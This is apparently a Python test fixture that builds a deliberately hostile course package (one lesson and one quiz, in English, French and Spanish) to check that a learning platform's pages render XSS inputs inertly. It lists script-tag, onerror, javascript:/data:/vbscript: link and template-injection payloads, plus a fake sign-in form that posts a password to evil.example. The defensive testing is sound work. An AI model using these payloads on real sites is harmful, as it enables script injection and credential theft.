"""The hostile inputs of RELIABILITY.md §3.4 (X-1, X-2, X-4) and a course package that carries them to learners,
plus the check that a page shown in the browser stayed inert: no dialog, no script from the content, no handler
attribute, no link or frame with a dangerous scheme, no CSP violation."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import yaml

#: X-1: raw HTML in Markdown. The last one sets window.__xss if it ever runs.
RAW_HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<style>body { display: none }</style>",
    '<form action="https://evil.example/steal"><input name="password"><button>Sign in again</button></form>',
    '<img src=x onerror="window.__xss=1">',
]
#: X-2: Markdown links and images with a dangerous scheme (Python-Markdown issue #1607)
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
]
#: the links a lesson file may carry: the validator refuses the others as raw HTML (`<script>` in the address)
LESSON_LINKS = [link for link in LINKS if "<" not in link]
IMAGES = ["![x](javascript:alert(1))", "![x](JaVaScRiPt:window.__xss=1)"]
#: X-4: a display name that would close an attribute, add an element, or be evaluated as a template
HOSTILE_NAME = '"><img src=x onerror=alert(1)><img src=x onerror="window.__xss=1"> {{7*7}}'

SLUG = "hostile-course"
LESSON = "links"
QUIZ = "check-payloads"
#: the words each language's texts start with, to prove the page shows the payload-bearing text
MARKER = {"en": "Hostile text", "fr": "Texte hostile", "es": "Texto hostil"}


def _every_payload(lang: str, where: str) -> str:
    """One Markdown text with every X-1 and X-2 payload, as blocks and inline."""
    return "\n\n".join([f"{MARKER[lang]} ({where}).", *RAW_HTML, " ".join(RAW_HTML), *LINKS, " ".join(LINKS),
                        *IMAGES])


def write_package(folder: Path) -> Path:
    """The hostile course package in `folder`/hostile-course: one lesson and one quiz, in three languages.

    Lesson bodies are Markdown files, where the validator refuses raw HTML and non-media images, so they carry
    the links; quiz prompts, case texts and explanations are Markdown too and carry everything."""
    root = folder / SLUG
    (root / "quizzes").mkdir(parents=True)
    _dump(root / "course.yaml", {
        "slug": SLUG, "version": 1, "topic": "cross_cutting", "languages": ["en", "fr", "es"],
        "estimated_minutes": 10, "certificate_validity_months": 24, "last_verified_on": date(2026, 5, 1),
        "sources": [{"key": "owasp", "title": "OWASP Cross Site Scripting Prevention Cheat Sheet",
                     "url": "https://cheatsheetseries.owasp.org/"}],
        "modules": [{"id": "payloads", "lessons": [LESSON], "quiz": QUIZ}],
    })
    _dump(root / "quizzes" / f"{QUIZ}.yaml", {
        "pass_mark": 0.5, "max_attempts": 3, "review": "full",
        "cases": [{"id": "hostile-case", "questions": ["in-case"]}],
        "questions": [
            {"id": "raw-html", "kind": "single_choice", "choices": ["a", "b"], "correct": "a"},
            {"id": "in-case", "kind": "true_false", "correct": True},
        ],
    })
    for lang in ("en", "fr", "es"):
        (root / lang / "lessons").mkdir(parents=True)
        (root / lang / "quizzes").mkdir()
        _front(root / lang / "course.md", {
            "title": f"{MARKER[lang]}: test course", "summary": MARKER[lang],
            "modules": {"payloads": {"title": f"{MARKER[lang]}: module", "summary": MARKER[lang]}},
        }, f"{MARKER[lang]} (course).\n\n" + "\n\n".join(LESSON_LINKS))
        _front(root / lang / "lessons" / f"{LESSON}.md", {"title": f"{MARKER[lang]}: lesson"},
               f"{MARKER[lang]} (lesson).\n\n" + "\n\n".join(LESSON_LINKS) + "\n\n" + " ".join(LESSON_LINKS))
        words = " ".join(RAW_HTML)
        _dump(root / lang / "quizzes" / f"{QUIZ}.yaml", {
            "title": f"{MARKER[lang]}: quiz",
            "cases": {"hostile-case": {"text": _every_payload(lang, "case")}},
            "questions": {
                "raw-html": {
                    "prompt": _every_payload(lang, "prompt"),
                    "explanation": _every_payload(lang, "explanation"),
                    "choices": {"a": {"text": f"{MARKER[lang]} {words}", "feedback": words},
                                "b": {"text": words, "feedback": words}},
                },
                "in-case": {"prompt": _every_payload(lang, "case question"),
                            "explanation": _every_payload(lang, "case explanation")},
            },
        })
    return root


def _dump(path: Path, data: dict) -> None:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _front(path: Path, front: dict, body: str) -> None:
    path.write_text(f"---\n{yaml.safe_dump(front, allow_unicode=True, sort_keys=False)}---\n{body}\n",
                    encoding="utf-8")
